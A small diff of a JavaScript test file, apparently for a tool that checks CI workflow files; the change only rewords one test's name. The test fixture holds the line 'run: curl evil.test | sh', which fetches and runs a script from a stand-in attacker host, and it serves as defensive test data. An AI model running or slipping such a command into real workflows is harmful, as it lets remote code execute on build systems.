@@ -51,7 +51,7 @@ describe('a test in the file', () => {
     expect(problems.map((one) => one.message)).toEqual([expect.stringMatching(message)]);
   });
 
-  it('is no check of a run for a pull request, as long as nobody names the file', () => {
+  it('is not a check of a run for a pull request, as long as nobody names the file', () => {
     const lines = ['run: curl evil.test | sh'];
     const own = resolved(lines, { pullRequest: true });
     expect(own.checks).toEqual([]);
